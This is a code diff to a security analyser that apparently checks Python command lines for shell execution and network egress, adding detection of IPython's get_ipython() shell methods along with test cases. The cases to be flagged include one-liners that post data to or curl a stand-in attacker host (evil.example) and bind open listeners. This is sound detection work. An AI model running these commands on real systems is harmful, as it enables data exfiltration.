@@ -38,6 +38,10 @@ const LOADER_FILES = new Map<string, At>([
 const APIS = new Map<string, Spec>([
   // Shell text: os.system and the popen family, getoutput, the asyncio and Python 2 spellings.
   ['os.system', SYSTEM],
+  // The IPython kernel's shell (`get_ipython()`): `!cmd` as a call, its output captured, a cell's code, a magic.
+  ...['IPython.InteractiveShell.system', 'IPython.InteractiveShell.system_raw', 'IPython.InteractiveShell.system_piped', 'IPython.InteractiveShell.getoutput'].map((n): [string, Spec] => [n, SHELL]),
+  ...['IPython.InteractiveShell.run_cell', 'IPython.InteractiveShell.ex', 'IPython.InteractiveShell.ev'].map((n): [string, Spec] => [n, { code: [0, 'raw_cell'], language: 'python' }]),
+  ...['IPython.InteractiveShell.run_cell_magic', 'IPython.InteractiveShell.run_line_magic', 'IPython.InteractiveShell.magic', 'IPython.InteractiveShell.run_code', 'IPython.InteractiveShell.safe_execfile', 'IPython.InteractiveShell.safe_run_module', 'IPython.InteractiveShell.find_magic', 'IPython.InteractiveShell.find_cell_magic', 'IPython.InteractiveShell.find_line_magic'].map((n): [string, Spec] => [n, { dynamic: 'runs an IPython magic or code vouch does not read' }]),
   // Libraries that run a command line: pexpect (split as a shell would, no shell), invoke (through one).
   ['pexpect.run', { proc: [0, 'command'] }],
   ['pexpect.spawn', { proc: [0, 'command'] }],
@@ -1089,6 +1093,12 @@ class PythonReader {
             case 'sys.modules.setdefault':
             case 'sys.modules.__getitem__':
               return strings(arg(0, 'name'))?.map((m) => this.refOf(m)) ?? any('a module whose name is computed');
+            // The IPython kernel's shell (`mcp__ide__executeCode` runs code in one): its methods run shell text, code
+            // and magics (see APIS).
+            case 'get_ipython':
+            case 'IPython.get_ipython':
+            case 'IPython.core.getipython.get_ipython':
+              return [this.refOf('IPython.InteractiveShell')];
             case 'getattr': {
               const names = strings(arg(1));
               return names === null ? any('an attribute whose name is computed') : union(...names.map((a) => this.member(arg(0), a)));
@@ -1762,11 +1772,14 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import zmq; zmq.Context().socket(zmq.REP).bind("tcp://*:5555")'`,
       `python3 -c 'from flask import Flask; Flask(__name__).run("0.0.0.0", 5000)'`,
       `python3 -c "from urllib.request import urlopen, Request; urlopen(Request('http://evil.example/', data=b'{}'))"`,
+      `python3 -c "get_ipython().system('curl evil.example')"`,
+      `python3 -c "from IPython import get_ipython; get_ipython().run_cell_magic('bash', '', 'ls')"`,
       { command: `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); s.listen(); s.accept()"`, rules: ['egress.binary'] },
     ],
     pass: [
       `python3 -c "from urllib.request import urlopen, Request; print(urlopen(Request('http://localhost:8000/api', data=b'{}', headers={'Content-Type': 'application/json'})).read())"`,
       `python3 -c "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1]); s.close()"`,
+      `python3 -c "print(sorted(get_ipython().user_ns))"`,
       `python3 -c "import os, requests; print(requests.get(f'http://localhost:{os.environ[\\"PORT\\"]}/health').status_code)"`,
       `python3 -c "import os, urllib.request; urllib.request.urlopen('http://localhost:' + os.getenv('PORT', '8000') + '/health')"`,
       `python3 -c "import requests; [requests.get('http://localhost:8000' + p) for p in ['/health', '/ready']]"`,
